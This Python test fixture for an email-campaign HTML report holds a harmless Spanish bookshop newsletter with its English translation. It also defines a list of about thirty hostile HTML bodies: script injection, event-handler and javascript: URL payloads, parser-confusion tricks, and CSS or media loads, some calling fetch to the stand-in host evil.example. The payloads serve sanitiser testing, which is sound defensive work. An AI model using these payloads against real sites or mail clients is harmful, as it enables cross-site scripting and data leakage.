"""Campaign drafts for the tests of the HTML report: a usual one, and hostile ones."""

from __future__ import annotations

NEWSLETTER = """\
From: Librería Aurora <hola@libreria.example>
To: lista@libreria.example
Subject: TRES LIBROS NUEVOS, {{ contact.FIRSTNAME }}, y un descuento que dura hasta el domingo
Date: Mon, 4 May 2026 09:30:00 +0200
List-Unsubscribe: <https://libreria.example/baja>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

Hola:

Esta semana llegan tres libros nuevos.

--b
Content-Type: multipart/related; boundary="r"

--r
Content-Type: text/html; charset=utf-8

<!doctype html>
<html lang="es"><head><title>Novedades de mayo</title>
<style>
.btn { background: #b3261e; color: #fff; padding: 14px 28px; border-radius: 6px; }
h1 { font: 30px Georgia, serif } p { font: 16px/1.6 Helvetica, Arial, sans-serif }
@media (max-width: 480px) { .wrap { width: 100% !important } }
@media (prefers-color-scheme: dark) { .wrap { background: #202020 !important; color: #eee } }
</style></head>
<body style="margin:0;background:#f4efe6">
<div style="display:none">Tres novelas y un 20 % de descuento hasta el domingo.</div>
<table class="wrap" width="600" align="center" style="background:#fff"><tr><td>
<img src="cid:logo@libreria.example" width="160" height="48" alt="Librería Aurora">
<h1>Tres libros nuevos</h1>
<p>Hola, {{ contact.FIRSTNAME }}:</p>
<p>Ya están aquí los libros de mayo! Te esperamos en la tienda.</p>
<img src="https://cdn.libreria.example/portada.jpg" width="536" height="240" alt="Las portadas">
<p><a class="btn" href="http://libreria.example/mayo">Pincha aquí</a></p>
<p>Librería Aurora, calle Mayor 1, 28013 Madrid. <a href="{{ unsubscribe }}">Darse de baja</a></p>
</td></tr></table>
</body></html>
--r
Content-Type: image/gif
Content-Transfer-Encoding: base64
Content-ID: <logo@libreria.example>

R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7

--r--
--b--
"""

_IN_ENGLISH = {
    "Librería Aurora, calle Mayor 1, 28013 Madrid": "Aurora Bookshop, 1 High Street, Dublin 2",
    "Librería Aurora": "Aurora Bookshop", "libreria.example": "bookshop.example", 'lang="es"': 'lang="en"',
    "TRES LIBROS NUEVOS, {{ contact.FIRSTNAME }}, y un descuento que dura hasta el domingo":
        "THREE NEW BOOKS, {{ contact.FIRSTNAME }}, and a discount that lasts until Sunday",
    "Esta semana llegan tres libros nuevos.": "Three new books arrive this week.",
    "Novedades de mayo": "New in May", "Tres libros nuevos": "Three new books",
    "Tres novelas y un 20 % de descuento hasta el domingo.": "Three novels, and 20% off until Sunday.",
    "Hola, {{": "Hello {{", "FIRSTNAME }}:</p>": "FIRSTNAME }},</p>", "Hola:": "Hello,",
    "Ya están aquí los libros de mayo! Te esperamos en la tienda.":
        "The books of May are here !! Come and see us in the shop.",
    "Las portadas": "The covers", "Pincha aquí": "Click here", "Darse de baja": "Unsubscribe",
}  # fmt: skip
ENGLISH = NEWSLETTER
for _spanish, _english in _IN_ENGLISH.items():
    ENGLISH = ENGLISH.replace(_spanish, _english)

RUN = "document.title = 'owned'; top.document.title = 'owned'; fetch('https://evil.example/x')"
"""What each hostile mail tries to do."""
HOSTILE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<body onload=\"{RUN}\">",
    f"<svg onload=\"{RUN}\"><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    f"<a href=\"javascript:{RUN}\" id=click>x</a>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    "<iframe src=https://evil.example/frame></iframe>",
    f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    "<embed src=https://evil.example/x.swf>",
    f"<form action=https://evil.example/form><input autofocus onfocus=\"{RUN}\"><button id=click>x</form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/meta\">",
    "<base href=https://evil.example/><img src=pixel.gif><a id=click href=page>x</a>",
    "<link rel=dns-prefetch href=https://evil.example><link rel=preconnect href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "<p style=\"background:url(https://evil.example/z.png)\">x</p><style>@font-face{font-family:a;src:url(https://evil.example/f.woff)}p{font-family:a}</style>",
    "<img srcset=\"https://evil.example/1x.png 1x\"><picture><source srcset=https://evil.example/p.png><img></picture>",
    "<video src=https://evil.example/v.mp4 poster=https://evil.example/v.png autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    f"</iframe></div><script>{RUN}</script>",
    f"\"></iframe><script>{RUN}</script><iframe srcdoc=\"",
    f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\"></style></table></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f"<!--><script>{RUN}</script>-->", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<details open ontoggle=\"{RUN}\">x</details><marquee onstart=\"{RUN}\">x</marquee>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    f"<p title='\" onmouseover=\"{RUN}\"'>HOLA!!! {{{{ nombre }}}}</p>",
    f"<title></title><plaintext><script>{RUN}</script>",
    "<style>*{position:fixed!important;inset:0;z-index:9999}</style><p>cover",
)  # fmt: skip
"""Bodies that try to run a script, to fetch something, or to leave their frame."""


def page(body: str, subject: str = "") -> str:
    """A campaign with `body`, whose subject is as hostile."""
    subject = " ".join((subject or body)[:200].split())
    head = f"From: {subject} <a@acme.example>\nSubject: {subject}\nList-Unsubscribe: <x>\n"
    return f"{head}Content-Type: text/html; charset=utf-8\n\n<html lang=es><body>{body}</body></html>\n"
